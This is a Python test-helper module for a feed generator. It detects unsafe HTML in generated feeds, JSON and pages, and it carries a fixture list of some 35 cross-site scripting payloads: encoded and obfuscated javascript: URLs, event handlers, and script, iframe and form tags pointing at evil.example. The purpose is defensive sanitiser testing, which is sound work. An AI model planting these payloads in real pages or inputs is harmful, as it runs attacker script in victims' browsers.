"""Finding unsafe markup in anything feeder writes: HTML fragments, feeds, pages.

Used by tests/test_sanitise.py, tests/test_properties.py and fuzz/fuzz_brief.py. A finding
is a tuple describing one unsafe thing, e.g. `("tag", "script", "alert(1)")` or
`("url", "a", "href", "javascript:alert(1)")`, so that a test can show exactly what leaked.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from lxml import etree

UNSAFE_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "style", "base", "svg", "math", "noscript", "template",
})
"""Elements that run code, load other documents, restyle or submit the page. A page's own
`<link>` and `<meta charset>` are fine; `<meta http-equiv>` is flagged below."""
VOID = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta",
                  "source", "track", "wbr", "param"})
XML_UNSAFE_TAGS = frozenset({"script", "iframe", "frame", "object", "embed", "applet", "form",
                             "style"})
"""Unsafe as elements of a feed document itself (Atom and RSS have their own `link`)."""
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "poster", "cite",
                            "background", "xlink:href", "srcset", "longdesc", "lowsrc",
                            "dynsrc", "codebase", "manifest"})
# Browsers drop ASCII tab/newline anywhere in a URL and C0 controls/space around it
# (WHATWG URL), so `jav&#x09;ascript:` is javascript:.
_URL_NOISE = re.compile(r"[\x00-\x20]")
UNSAFE_SCHEMES = ("javascript:", "data:", "vbscript:", "livescript:")

# Each payload carries a marker (P01...) in text that must survive, so a test cannot pass
# just because the whole paragraph was dropped.
PAYLOADS = [
    "P01 <script>alert(1)</script>",
    "P02 <SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    'P03 <iframe src="https://evil.example/"></iframe>',
    'P04 <object data="https://evil.example/x.swf"></object>',
    'P05 <embed src="https://evil.example/x.swf">',
    'P06 <form action="https://evil.example/"><input name=x><button>go</button></form>',
    "P07 <style>body { display: none }</style>",
    "P08 <img src=x onerror=alert(1)>",
    '<div onclick="alert(1)">P09</div>',
    '<a href="https://ok.example/" onmouseover="alert(1)">P10</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg> P11',
    '<a href="javascript:alert(1)">P12</a>',
    '<a href="JaVaScRiPt:alert(1)">P13</a>',
    '<a href="jav&#x09;ascript:alert(1)">P14</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">P15</a>',
    '<a href=" &#14; javascript:alert(1)">P16</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">P17</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="P18">',
    '<img src="javascript:alert(1)" alt="P19">',
    "[P20](javascript:alert(1))",
    "[P21](JAVASCRIPT:alert(1) 'title')",
    "![P22](javascript:alert(1))",
    "[P23](data:text/html,<script>alert(1)</script>)",
    "P24 <javascript:alert(1)>",
    "P25 <data:text/html,x>",
    "[P26][evil] and [P27][evil-data]",
    "[evil]: javascript:alert(1)",
    "[evil-data]: data:text/html;base64,PHNjcmlwdD4=",
    '<a href="vbscript:msgbox(1)">P28</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"> P29',
    '<base href="https://evil.example/"> P30',
    '<p style="background:url(javascript:alert(1))">P31</p>',
    '<math><mi xlink:href="javascript:alert(1)">P32</mi></math>',
    '<img srcset="https://ok.example/a.png 1x, javascript:alert(1) 2x" alt="P33">',
    "P34 <!-- <script>alert(1)</script> -->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">P35</p></noscript>",
]
"""Hostile HTML and Markdown: scripts, frames, handlers, and script URLs, many disguised."""

ATOM = "{http://www.w3.org/2005/Atom}"
CONTENT_ENCODED = "{http://purl.org/rss/1.0/modules/content/}encoded"


def unsafe_url(value: str) -> bool:
    """Whether a browser would run or inline `value` (after HTML entity decoding)."""
    return _URL_NOISE.sub("", value).lower().startswith(UNSAFE_SCHEMES)


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[tuple[str, ...]] = []
        self._open: list[tuple[str, str, list[str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(("handler", tag, name, value or ""))
            elif name == "style":
                self.findings.append(("style-attribute", tag, value or ""))
            elif name in URL_ATTRIBUTES and value is not None and (
                    unsafe_url(value) or any(unsafe_url(part) for part in value.split(","))):
                self.findings.append(("url", tag, name, value))
        described = " ".join(f"{k}={v}" for k, v in attrs)
        refresh = tag == "meta" and any(name == "http-equiv" for name, _ in attrs)
        if refresh or (tag in UNSAFE_TAGS and tag in VOID):
            self.findings.append(("tag", tag, described, ""))
        elif tag in UNSAFE_TAGS:
            self._open.append((tag, described, []))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in UNSAFE_TAGS and tag not in VOID:
            self.handle_endtag(tag)

    def handle_data(self, data: str) -> None:
        for _, _, text in self._open:
            text.append(data)

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self._open) - 1, -1, -1):
            if self._open[index][0] == tag:
                name, attrs, text = self._open.pop(index)
                self.findings.append(("tag", name, attrs, "".join(text)))
                return

    def close(self) -> None:
        super().close()
        while self._open:
            name, attrs, text = self._open.pop()
            self.findings.append(("tag", name, attrs, "".join(text)))


def html_findings(fragment: str) -> list[tuple[str, ...]]:
    """Every unsafe element, event handler, style attribute and script URL in `fragment`."""
    checker = _Checker()
    checker.feed(fragment)
    checker.close()
    return checker.findings


def _is_html(element: Any) -> bool:
    tag = element.tag
    if not isinstance(tag, str):
        return False
    if tag in (f"{ATOM}content", f"{ATOM}summary", f"{ATOM}title", f"{ATOM}subtitle",
               f"{ATOM}rights"):
        return element.get("type") == "html"
    return tag == CONTENT_ENCODED or (tag == "description" and element.getparent() is not None
                                      and element.getparent().tag == "item")


def xml_findings(data: bytes) -> list[tuple[str, ...]]:
    """Unsafe markup in a feed: in its HTML-typed fields, its links, and its own elements."""
    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    findings: list[tuple[str, ...]] = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            findings.append(("xml-node", str(element.tag), str(element)))
            continue
        local = etree.QName(element).localname
        if local.lower() in XML_UNSAFE_TAGS:
            findings.append(("xml-element", local, element.text or ""))
        for name, value in element.attrib.items():
            attribute = etree.QName(name).localname
            if (attribute in URL_ATTRIBUTES or attribute.lower().endswith("url")) \
                    and unsafe_url(value):  # OPML's xmlUrl and htmlUrl too
                findings.append(("xml-url", local, name, value))
            if attribute.startswith("on"):
                findings.append(("xml-handler", local, name, value))
        if _is_html(element) and element.text:
            findings += [("in " + local, *f) for f in html_findings(element.text)]
        if local in ("link", "guid", "id", "comments", "docs") and element.text and \
                unsafe_url(element.text):
            findings.append(("xml-url", local, element.text))
    return findings


def _json_findings(value: Any, key: str = "") -> list[tuple[str, ...]]:
    if isinstance(value, dict):
        return [f for k, v in value.items() for f in _json_findings(v, k)]
    if isinstance(value, list):
        return [f for v in value for f in _json_findings(v, key)]
    if not isinstance(value, str):
        return []
    if key.endswith("_html"):
        return [("in " + key, *f) for f in html_findings(value)]
    if key.endswith(("url", "image", "icon", "favicon", "avatar")) and unsafe_url(value):
        return [("json-url", key, value)]
    return []


def file_findings(path: Path) -> list[tuple[str, ...]]:
    """Unsafe markup in one output file (feeds, JSON Feed, pages); other files have none."""
    data = path.read_bytes()
    if path.suffix in (".xml", ".opml"):
        return xml_findings(data)
    if path.suffix == ".json":
        return _json_findings(json.loads(data))
    if path.suffix in (".html", ".htm", ".xhtml"):
        return html_findings(data.decode("utf-8"))
    return []


def tree_findings(folder: Path) -> dict[str, list[tuple[str, ...]]]:
    """Unsafe markup in every file under `folder`, by relative path (only files with some)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            findings = file_findings(path)
            if findings:
                found[path.relative_to(folder).as_posix()] = findings
    return found
